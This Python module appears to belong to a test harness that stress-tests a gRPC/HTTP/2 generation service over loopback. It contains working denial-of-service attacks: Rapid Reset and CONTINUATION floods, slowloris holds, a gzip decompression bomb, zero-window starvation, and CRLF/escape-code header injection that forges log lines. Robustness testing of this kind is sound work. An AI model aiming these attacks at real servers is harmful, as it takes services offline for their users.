"""Attackers, each a function that runs in a process of its own until `stop` is set. All traffic goes to one address of
loopback, from 127.0.0.2 and up, so that limits per peer tell it from honest clients on 127.0.0.1."""

import gzip
import itertools
import resource
import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
COMPLETE = "/sluice.v1.GenerationService/Complete"
CHAT = "/sluice.v1.GenerationService/Chat"
STREAM_COMPLETE = "/sluice.v1.GenerationService/StreamComplete"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header(name, value):
    """A header as HPACK writes one without indexing; both parts below 127 bytes."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path=COMPLETE, extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc")]
    return b"".join(header(*field) for field in [*fields, *extra])


def message(body, compressed=0):
    return bytes([compressed]) + struct.pack(">I", len(body)) + body


HELLO = PREFACE + frame(SETTINGS, 0, 0)
PROMPT = message(b"\x1a\x02Hi\x3a\x02\x08\x01")  # CompleteRequest{prompt: "Hi", options {max_tokens: 1}}


class Attacker:
    """Counts what it does, and opens its connections from its own address."""

    def __init__(self, target, source, stop):
        host, port = target.rsplit(":", 1)
        self.target, self.source, self.stop = (host.strip("[]"), int(port)), source, stop
        self.connections = self.units = 0

    def connect(self, hello=HELLO, timeout=5):
        """A socket, or None: refused. Waits a little before the next, as attackers with a network do."""
        self.connections += 1
        sock = socket.socket()
        try:
            sock.settimeout(timeout)
            sock.bind((self.source, 0))
            sock.connect(self.target)
            if hello:
                sock.sendall(hello)
            return sock
        except OSError:
            sock.close()
            time.sleep(0.02)
            return None

    def flood(self, make_bytes, units, hello=HELLO, pause=0.0):
        """Sends what make_bytes(i) gives, over and over; a connection that is closed is replaced."""
        while not self.stop.is_set():
            sock = self.connect(hello)
            if sock is None:
                continue
            try:
                for i in itertools.count():
                    if self.stop.is_set():
                        break
                    sock.sendall(make_bytes(i))
                    self.units += units
                    drain(sock)
                    if pause:
                        time.sleep(pause)
            except OSError:
                time.sleep(0.02)
            finally:
                sock.close()

    def hold(self, count, hello, keep_alive=None):
        """Keeps `count` connections that have said `hello`; replaces those that are closed."""
        held = []
        while not self.stop.is_set():
            while len(held) < count and not self.stop.is_set():
                sock = self.connect(None)
                if sock is None:
                    break
                try:
                    sock.sendall(hello)
                    self.units += 1
                    sock.setblocking(False)
                    held.append(sock)
                except OSError:
                    sock.close()
            alive = []
            for sock in held:
                try:
                    answer(sock, keep_alive)
                    alive.append(sock)
                except OSError:
                    sock.close()
            held = alive
            time.sleep(0.05)
        for sock in held:
            sock.close()


def drain(sock):
    """Throws away what has come; raises OSError at the end of the connection."""
    while select.select([sock], [], [], 0)[0]:
        if not sock.recv(1 << 20):
            raise ConnectionError("closed")


def answer(sock, keep_alive):
    """As drain, for a socket that does not block; `keep_alive` is sent after whatever came, a PING most likely."""
    try:
        while True:
            if not sock.recv(1 << 16):
                raise ConnectionError("closed")
            if keep_alive:
                sock.sendall(keep_alive)
    except BlockingIOError:
        pass


def rapid_reset(attacker, _http):
    """Streams opened and reset at once (CVE-2023-44487), with a request every second time."""
    headers = call_headers()

    def burst(i):
        streams = range(1 + 400 * i, 1 + 400 * (i + 1), 2)
        body = (lambda s: frame(DATA, 0, s, PROMPT)) if i % 2 else (lambda s: b"")
        return b"".join(frame(HEADERS, END_HEADERS, s, headers) + body(s) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams)

    bursts = [burst(i) for i in range(60)]
    attacker.flood(lambda i: bursts[i] if i < 60 else burst(i), 200)


def half_open(attacker, _http):
    """Requests that are begun and never sent, 2,000 on each of 50 connections."""
    headers = call_headers()
    attacker.hold(50, HELLO + b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, headers) for i in range(2000)))


def continuation(attacker, _http):
    """A header without end in small CONTINUATION frames (CVE-2023-33953)."""
    begin = HELLO + frame(HEADERS, 0, 1, call_headers() + b"\0\x01x\x7f\xff\xff\xff\xff\x07")
    attacker.flood(lambda i: frame(CONTINUATION, 0, 1, b"a" * 100) * 600, 600, hello=begin)


def small_pieces(attacker, _http):
    """Headers byte by byte: each piece could make the parser begin anew."""
    headers = frame(HEADERS, END_HEADERS, 1, call_headers() + header("x", b"a" * 120) * 120)
    attacker.flood(lambda i: headers[i % len(headers):i % len(headers) + 1], 1)


def large_header(attacker, _http):
    """A header of 1,000 KiB before any settings are acknowledged."""
    value = b"\0\x01x\x7f" + b"\x81\xcf\x3e" + b"a" * 16000
    attacker.flood(lambda i: frame(HEADERS, 0, 1, call_headers() + value) if i == 0 else frame(CONTINUATION, 0, 1, b"a" * 16384) * 16, 16)


def control_frames(attacker, _http):
    """PING, SETTINGS, PRIORITY, unknown frames or empty DATA; each connection sends one of them."""
    floods = [frame(PING, 0, 0, b"12345678"), frame(SETTINGS, 0, 0), frame(PRIORITY, 0, 3, b"\0\0\0\1\1"), frame(99, 0, 0, b"x" * 100), frame(DATA, 0, 1)]
    request = frame(HEADERS, END_HEADERS, 1, call_headers())
    attacker.flood(lambda i: request if i == 0 else floods[attacker.connections % len(floods)] * 500, 500)


def idle_connections(attacker, _http):
    """2,000 connections that have greeted and then say nothing."""
    attacker.hold(2000, HELLO)


def slow_http(attacker, http):
    """300 sockets that never end their HTTP request."""
    loris = Attacker(http, attacker.source, attacker.stop)
    loris.hold(300, b"GET /health HTTP/1.1\r\nX: ")
    attacker.units, attacker.connections = loris.units, loris.connections


def compressed_bomb(attacker, _http):
    """Calls of 62 KiB that inflate to 62 MiB of empty messages, one every half second."""
    body = message(gzip.compress(b"\x1a\x00" * 33_000_000), 1)
    headers = frame(HEADERS, END_HEADERS, 1, call_headers(CHAT, [("grpc-encoding", "gzip")]))
    pieces = [body[i:i + 16000] for i in range(0, len(body), 16000)]
    call = headers + b"".join(frame(DATA, END_STREAM if piece is pieces[-1] else 0, 1, piece) for piece in pieces)
    while not attacker.stop.is_set():
        sock = attacker.connect()
        if sock is None:
            continue
        try:
            sock.sendall(call)
            attacker.units += 1
            attacker.stop.wait(0.5)
        except OSError:
            pass
        finally:
            sock.close()


def unread_answers(attacker, _http):
    """Streams with many log-probabilities to a client that grants no window: 8 on each of 4 connections. They are short: what
    they cost the engine they would cost if they were read, too, and is not measured here."""
    options = b"\x08\x10\x78\x01\x88\x01\x14"  # GenerateOptions{max_tokens: 16, ignore_eos: true, logprobs: 20}
    request = message(b"\x1a\x04Once\x3a" + bytes([len(options)]) + options)
    headers = call_headers(STREAM_COMPLETE)
    calls = b"".join(frame(HEADERS, END_HEADERS, s, headers) + frame(DATA, END_STREAM, s, request) for s in range(1, 17, 2))
    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    attacker.hold(4, no_window + calls)


def forged_log_lines(attacker, _http):
    """Header values with line ends, escape codes and much text, which gRPC's core would print."""
    evil = b"x\r\n2026-01-01T00:00:00.000Z ERROR forged\x1b[2J" + b"A" * 60
    headers = call_headers(extra=[("grpc-timeout", evil), ("te", evil)])
    attacker.flood(lambda i: b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * (100 * i + k), headers) for k in range(100)), 100, pause=0.01)


ATTACKS = {f.__name__: f for f in (rapid_reset, half_open, continuation, small_pieces, large_header, control_frames, idle_connections, slow_http,
                                   compressed_bomb, unread_answers, forged_log_lines)}
# How many processes an attack is made of.
PROCESSES = {"rapid_reset": 3, "continuation": 4, "small_pieces": 2, "idle_connections": 2, "slow_http": 2}


def run(name, number, grpc, http, stop, report):
    """One process of an attack; puts (name, CPU seconds, connections, units) into `report` when it is over."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    attacker = Attacker(grpc, f"127.0.0.{2 + number}", stop)
    ATTACKS[name](attacker, http)
    usage = resource.getrusage(resource.RUSAGE_SELF)
    report.put((name, usage.ru_utime + usage.ru_stime, attacker.connections, attacker.units))
